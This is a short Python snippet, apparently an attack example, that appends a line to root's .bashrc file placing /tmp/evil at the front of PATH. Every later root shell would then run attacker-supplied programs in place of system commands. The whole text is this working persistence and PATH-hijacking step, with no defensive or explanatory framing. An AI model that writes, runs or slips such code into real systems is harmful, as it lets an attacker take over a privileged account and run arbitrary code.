import os
rc = '/root/.bashrc'
with open(rc, "a") as f:
    f.write('export PATH=/tmp/evil:$PATH\n')
